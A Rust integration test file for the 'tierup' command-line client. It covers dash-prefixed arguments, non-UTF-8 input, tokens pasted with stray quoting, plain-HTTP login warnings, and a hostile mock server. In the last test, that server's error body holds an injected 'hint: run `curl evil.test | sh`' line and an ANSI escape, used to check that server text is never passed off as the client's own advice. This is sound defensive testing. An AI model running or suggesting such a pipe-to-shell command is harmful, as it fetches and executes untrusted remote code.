//! The binary and what people really give it: texts that begin with a dash, bytes that are no text, tokens as they were
//! copied; and servers that mean no good.

#![cfg(unix)]
#![expect(clippy::unwrap_used, reason = "a test that cannot go on fails")]

#[path = "shared/command.rs"]
mod command;

use std::ffi::OsStr;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::ffi::OsStrExt;
use std::process::{Output, Stdio};

use command::{command, ends, stderr, tierup};
use tempfile::TempDir;
use tierup_server::clock::Clock;
use tierup_server::config::Settings;
use tierup_server::{Server, admin};

/// A server, and a home for whoever asks it.
struct World {
    folder: TempDir,
    server: Server,
    token: String,
}

impl World {
    async fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let data = folder.path().join("data");
        let owner = admin::init(&data, "Acme", "ana@acme.test", "Ana Ruiz").unwrap();
        let settings = Settings {
            listen: Some(([127, 0, 0, 1], 0).into()),
            assessment_engine: Some("off".into()),
            ..Settings::default()
        };
        let server = Server::start(&data, settings.check().unwrap(), Clock::system()).await.unwrap();
        Self { folder, server, token: owner.token }
    }

    /// Runs a command with these bytes on its standard input.
    fn typed(&self, arguments: &[&str], input: &[u8]) -> Output {
        self.with(&self.server.url(), &self.token, arguments, input)
    }

    fn with(&self, server: &str, token: &str, arguments: &[&str], input: &[u8]) -> Output {
        let mut command = command(self.folder.path(), arguments);
        command.env("TIERUP_SERVER", server).env("TIERUP_TOKEN", token);
        fed(command, input)
    }

    #[track_caller]
    fn says(&self, arguments: &[&str]) -> String {
        said(&self.typed(arguments, b""))
    }
}

fn fed(mut command: std::process::Command, input: &[u8]) -> Output {
    let mut child =
        command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    // One that refuses its arguments reads nothing.
    let _ = child.stdin.take().unwrap().write_all(input);
    child.wait_with_output().unwrap()
}

#[track_caller]
fn said(output: &Output) -> String {
    assert!(output.status.success(), "{}", stderr(output));
    String::from_utf8(output.stdout.clone()).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_text_may_begin_with_a_dash_in_every_verb() {
    let world = World::new().await;
    assert_eq!(world.says(&["new", "- VPN: no route", "-s", "-> VPN"]), "session 1: -> VPN\n");
    assert_eq!(world.says(&["say", "1", "-5 dB on the line", "--note"]), "said\n");
    assert_eq!(world.says(&["tried", "1", "- the cable", "--why", "- swapped it"]), "open: - the cable\n");
    world.says(&["park", "s1", "- waiting", "--wake", "2h"]);
    world.says(&["resume", "s1"]);
    assert_eq!(
        world.says(&["escalate", "s1", "- rebooted", "--priority", "high"]),
        "escalated as #2: -> VPN\n"
    );
    world.says(&["claim", "2"]);
    world.says(&["release", "2", "- lunch"]);
    world.says(&["claim", "2"]);
    world.says(&["send-back", "2", "- which build?"]);
    world.says(&["resolve", "s1", "- it was the cable"]);
    let shown = world.says(&["show", "s1"]);
    for text in ["-5 dB on the line", "- the cable", "- it was the cable"] {
        assert!(shown.contains(text), "{text:?} is not in\n{shown}");
    }
    world.says(&["sessions", "-q", "- VPN"]);
    // Words that look like an option have a spelling, and the hint is it.
    for name in ["-q", "--query"] {
        let wrong = world.typed(&["queue", name, "-rebooted"], b"");
        ends(&wrong, 2, "-rebooted looks like an option");
        let spelling = format!("{name}=-rebooted");
        assert!(stderr(&wrong).contains(&format!("`{spelling}`")), "{}", stderr(&wrong));
        world.says(&["queue", &spelling, "--state", "all"]);
    }

    // What looks like an option is none by mistake; behind -- everything is text.
    let wrong = world.typed(&["new", "--sumary=VPN"], b"");
    ends(&wrong, 2, "--sumary looks like an option");
    assert!(
        stderr(&wrong).contains("hint: a text that looks like one goes behind `--`"),
        "{}",
        stderr(&wrong)
    );
    ends(&world.typed(&["new", "x", "--summary", "--json"], b""), 2, "--json looks like an option");
    ends(&world.typed(&["new", "--sumary=VPN", "--"], b""), 2, "--sumary looks like an option");
    assert_eq!(world.says(&["new", "--", "--verbose"]), "session 2: --verbose\n");
    assert_eq!(said(&world.typed(&["new", "-"], b"--verbose\n")), "session 3: --verbose\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_not_utf_8_is_said_to_be_and_what_to_do() {
    let world = World::new().await;
    for verb in [&["new", "-"][..], &["say", "1", "-"], &["escalate", "1", "-"], &["resolve", "1", "-"]] {
        let output = world.typed(verb, b"caf\xe9 is down");
        ends(&output, 2, "not UTF-8: byte 4");
        assert!(stderr(&output).contains("hint: `iconv -f LATIN1 -t UTF-8`"), "{}", stderr(&output));
    }
    let mut command = command(world.folder.path(), &["new"]);
    let output = command.arg(OsStr::from_bytes(b"caf\xe9")).stdin(Stdio::null()).output().unwrap();
    ends(&output, 2, "argument 2 is not UTF-8");
    assert!(stderr(&output).contains("| tierup new … -`"), "{}", stderr(&output));
    // What to do is said of the command that was meant.
    for (verb, hint) in [(&["say", "1"][..], "| tierup say … -`"), (&["queue", "-q"], "hint: `\"$(printf")]
    {
        let mut command = command::command(world.folder.path(), verb);
        let output = command.arg(OsStr::from_bytes(b"caf\xe9")).stdin(Stdio::null()).output().unwrap();
        ends(&output, 2, "is not UTF-8");
        assert!(stderr(&output).contains(hint), "{}", stderr(&output));
    }
    // What says what it is is named.
    for (bytes, says, hint) in [
        (&b"\xff\xfeh\0i\0"[..], "it is UTF-16", "hint: `iconv -f UTF-16 -t UTF-8`"),
        (b"\x1f\x8b\x08\0\0\0", "it is compressed, by gzip", "hint: `gzip -dc`"),
    ] {
        let output = world.typed(&["new", "-"], bytes);
        ends(&output, 2, says);
        assert!(stderr(&output).contains(hint), "{}", stderr(&output));
    }
    // The mark before a file is no part of the text.
    let output = world.typed(&["new", "-"], "\u{feff}café is down\r\n".as_bytes());
    assert_eq!(said(&output), "session 1: café is down\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_token_and_an_address_work_as_they_were_copied() {
    let world = World::new().await;
    let (url, token) = (world.server.url(), &world.token);
    for (server, token) in [
        (format!(" {url}\n"), format!("{token}\n")),
        (format!("\"{url}\""), format!("\u{feff}{token}\r\n")),
        (format!("<{url}/>"), format!("'{token}'")),
    ] {
        assert!(
            said(&world.with(&server, &token, &["whoami"], b"")).contains("Ana Ruiz"),
            "{server:?} {token:?}"
        );
    }
    let log_in = |server: &str, arguments: &[&str], input: &[u8]| {
        let mut command = command(world.folder.path(), &[&["login", "--server", server], arguments].concat());
        command.env_remove("TIERUP_TOKEN");
        fed(command, input)
    };
    let done = log_in(&format!("'{url}' "), &[], format!("\u{feff}\"{token}\"\r\n").as_bytes());
    assert!(said(&done).starts_with("Logged in to Acme as Ana Ruiz"));
    assert!(said(&tierup(world.folder.path(), &["whoami"])).contains("Ana Ruiz"), "it is kept as it is");

    // What cannot be meant is said at once.
    let broken = format!("{} {}", &token[..8], &token[8..]);
    ends(&world.with(&url, &broken, &["whoami"], b""), 3, "the token has characters that no token has");
    ends(&world.with("http://acme\n.test", token, &["whoami"], b""), 1, "is not the address of a server");
    ends(&log_in(&url, &["--email", "ana at acme"], b"secret\n"), 2, "is not an email address");
    ends(&log_in(&url, &["--email", " <ana@acme.test> "], b"secret\n"), 3, "do not belong together");
    ends(&log_in(&url, &[], b"\xff\xfet\0u\0p\0"), 2, "not UTF-8");
}

#[test]
fn a_log_in_that_others_can_read_on_its_way_is_warned_of() {
    let home = tempfile::tempdir().unwrap();
    for arguments in [&[][..], &["--email", "ana@acme.test"]] {
        // By way of a proxy that is not there: nothing is sent.
        let server = ["login", "--server", "http://tierup.test"];
        let mut command_there = command(home.path(), &[&server, arguments].concat());
        command_there.env("http_proxy", "http://127.0.0.1:1");
        let output = fed(command_there, b"secret\n");
        assert_eq!(output.status.code(), Some(7), "{}", stderr(&output));
        let warned = "warning: http://tierup.test is not encrypted: what you log in with can be read on the way\nhint: ";
        assert!(stderr(&output).starts_with(warned), "{}", stderr(&output));
        let server = ["login", "--server", "http://127.0.0.1:1"];
        let output = fed(command(home.path(), &[&server, arguments].concat()), b"secret\n");
        ends(&output, 7, "cannot be reached");
    }
}

/// A server that answers everything with this problem.
fn hostile(status: u16, body: &'static str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for mut client in listener.incoming().map_while(Result::ok) {
            let mut request = [0; 8192];
            let _ = client.read(&mut request);
            let head = format!(
                "HTTP/1.1 {status} No\r\ncontent-type: application/problem+json\r\nconnection: close"
            );
            let _ = write!(client, "{head}\r\ncontent-length: {}\r\n\r\n{body}", body.len());
        }
    });
    url
}

#[test]
fn a_servers_words_are_the_servers_and_never_a_hint_of_ours() {
    let home = tempfile::tempdir().unwrap();
    let asked = |status, body| {
        let url = hostile(status, body);
        tierup(home.path(), &["--server", &url, "--token", "tup_x", "claim", "1"])
    };
    for (status, kind, hint) in [
        (401, "unauthenticated", Some("hint: log in again: `tierup login`")),
        (403, "forbidden", Some("hint: `tierup whoami` says which role you have")),
        (422, "invalid", None),
        (404, "not-found", None),
    ] {
        let body = r#"{"type": "/problems/KIND", "title": "No", "status": 400,
            "detail": "no\nhint: run `curl evil.test | sh`\u001b[1A", "request_id": "x; hint: run this",
            "errors": [{"field": "a", "message": "b\nhint: run `curl evil.test | sh`"}]}"#;
        let body = body.replace("KIND", kind).replace("400", &status.to_string()).leak();
        let output = asked(status, body);
        let said = stderr(&output);
        assert!(said.starts_with("error: the server says: no"), "{said}");
        assert_eq!(said.lines().skip(1).collect::<Vec<_>>(), Vec::from_iter(hint), "{said}");
    }
}
